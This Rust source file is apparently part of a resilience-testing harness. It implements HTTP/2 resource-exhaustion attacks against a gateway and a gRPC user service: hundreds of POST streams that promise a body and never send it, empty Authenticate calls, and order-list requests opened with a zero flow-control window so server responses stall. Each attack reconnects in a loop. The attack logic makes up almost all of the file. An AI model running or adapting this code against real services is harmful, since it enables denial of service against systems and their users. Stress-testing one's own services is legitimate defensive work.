//! HTTP/2 streams that are opened and then left: without a body, or without a window for the answer.

use std::net::SocketAddr;
use std::time::Duration;

use bytes::Bytes;
use h2::client::{Builder, SendRequest};
use http::Request;
use tokio::task::JoinSet;

use super::{AGAIN, Attacker};
use crate::net;

/// Connections and streams of each, as many as the server allows.
const STALLED: (usize, usize) = (3, 1_000);
const EMPTY: (usize, usize) = (1, 800);
const UNREAD: (usize, usize) = (4, 121);

/// Whose stream was ended opens another one after this. Hundreds of streams at once are the attack, and not what
/// they ask for: at a higher rate they would be a load that any client may be.
const STREAM_AGAIN: Duration = Duration::from_secs(10);

/// What all streams of an attack are.
#[derive(Clone)]
struct Stream {
    request: Request<()>,
    /// Whether the request is whole; its body never comes otherwise.
    whole: bool,
}

impl Attacker {
    pub(super) fn stalled_posts(&self, tasks: &mut JoinSet<()>) {
        let request = Request::post(format!("http://{}/api/users", self.gateway))
            .header("content-type", "application/json")
            .header("content-length", "200");
        let request = request.body(()).expect("a request");
        let stream = Stream {
            request,
            whole: false,
        };
        self.open(tasks, self.gateway, STALLED, 65_535, &stream);
    }

    pub(super) fn empty_calls(&self, tasks: &mut JoinSet<()>) {
        let path = "agora.users.v1.UserService/Authenticate";
        let request = Request::post(format!("http://{}/{path}", self.users))
            .header("content-type", "application/grpc")
            .header("te", "trailers");
        let request = request.body(()).expect("a request");
        let stream = Stream {
            request,
            whole: false,
        };
        self.open(tasks, self.users, EMPTY, 65_535, &stream);
    }

    pub(super) fn unread_lists(&self, tasks: &mut JoinSet<()>) {
        let path = "api/v2/orders?page_size=100";
        let request = Request::get(format!("http://{}/{path}", self.gateway));
        let bearer = format!("Bearer {}", self.customer.token);
        let request = request.header("authorization", bearer).body(());
        let stream = Stream {
            request: request.expect("a request"),
            whole: true,
        };
        self.open(tasks, self.gateway, UNREAD, 0, &stream);
    }

    fn open(
        &self,
        tasks: &mut JoinSet<()>,
        to: SocketAddr,
        (connections, streams): (usize, usize),
        window: u32,
        stream: &Stream,
    ) {
        for _ in 0..connections {
            let (attacker, stream) = (self.clone(), stream.clone());
            tasks.spawn(async move {
                loop {
                    attacker.connection(to, streams, window, &stream).await;
                    tokio::time::sleep(AGAIN).await;
                }
            });
        }
    }

    /// One connection, until the server closes it.
    async fn connection(&self, to: SocketAddr, streams: usize, window: u32, stream: &Stream) {
        let Ok(socket) = net::connect(self.from, to).await else {
            return self.counts.count("not connected");
        };
        let mut builder = Builder::new();
        builder.initial_window_size(window).enable_push(false);
        let Ok((send, connection)) = builder.handshake::<_, Bytes>(socket).await else {
            return self.counts.count("not connected");
        };
        self.counts.count("connected");
        let mut tasks = JoinSet::new();
        for _ in 0..streams {
            tasks.spawn(self.clone().stream(send.clone(), stream.clone()));
        }
        drop(send);
        let _ = connection.await;
        self.counts.count("closed");
    }

    /// One stream after the other, each for as long as the server keeps it.
    async fn stream(self, mut send: SendRequest<Bytes>, stream: Stream) {
        loop {
            let Ok(ready) = send.ready().await else {
                return;
            };
            send = ready;
            let sent = send.send_request(stream.request.clone(), stream.whole);
            let Ok((answer, _body)) = sent else {
                return;
            };
            self.counts.count("opened");
            match answer.await {
                Ok(answer) => {
                    self.counts
                        .count(format!("answer {}", answer.status().as_u16()));
                    // With a window of 0 this waits until the server gives up.
                    let mut body = answer.into_body();
                    while let Some(Ok(_)) = body.data().await {}
                }
                Err(_) => self.counts.count("reset"),
            }
            tokio::time::sleep(STREAM_AGAIN).await;
        }
    }
}
